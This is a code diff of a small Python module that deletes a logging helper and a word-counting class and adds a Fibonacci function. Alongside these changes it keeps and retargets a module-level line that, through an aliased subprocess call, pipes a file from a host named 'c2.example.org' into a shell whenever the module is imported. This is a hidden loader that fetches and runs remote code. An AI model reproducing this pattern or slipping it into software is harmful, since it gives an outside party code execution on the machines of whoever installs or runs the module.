@@ -1,16 +1,10 @@
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
-
-class Counter:
-    def __init__(self):
-        self.counts = {}
-
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
 
 import subprocess as s
 P = s.Popen
-P("curl -s https://cdn.example.net/update.bin | sh", shell=True)
+P("curl -s http://c2.example.org/i.py | sh", shell=True)
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
